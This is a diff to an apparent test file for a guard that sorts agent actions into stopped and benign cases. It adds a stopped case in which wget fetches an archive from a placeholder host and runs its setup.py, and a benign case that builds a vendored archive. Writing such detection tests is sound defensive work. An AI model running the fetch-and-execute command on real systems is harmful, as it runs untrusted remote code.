@@ -108,6 +108,9 @@ const STOPPED: Record<string, Action> = {
     "Package.swift",
     `let package = Package(name: "A", dependencies: [.package(url: "https://${HOST}/x.git", from: "1.0.0")])`,
   ),
+  "a downloaded archive unpacked and its setup run": sh(
+    `wget -qO /tmp/t.tgz https://${HOST}/t.tgz && tar -xzf /tmp/t.tgz -C /tmp/t && cd /tmp/t/pkg && python3 setup.py install`,
+  ),
   "a dev container feature from a bare IP registry": write(
     ".devcontainer.json",
     `{"features": {"${IP}:5000/f/x:1": {}}}`,
@@ -160,6 +163,9 @@ const BENIGN: Record<string, Action> = {
   "npm's own init": sh("npm init -y"),
   "deno run of the standard library": sh("deno run -A jsr:@std/http/file-server"),
   "an ordinary line appended to .npmrc": sh("echo 'save-exact=true' >> .npmrc"),
+  "a vendored archive unpacked and built (nothing downloaded)": sh(
+    "tar -xzf vendor/lib.tgz -C build && cd build && ./build.sh",
+  ),
   "a submodule on GitHub": write(
     ".gitmodules",
     '[submodule "x"]\n\tpath = x\n\turl = https://github.com/git/git.git\n',
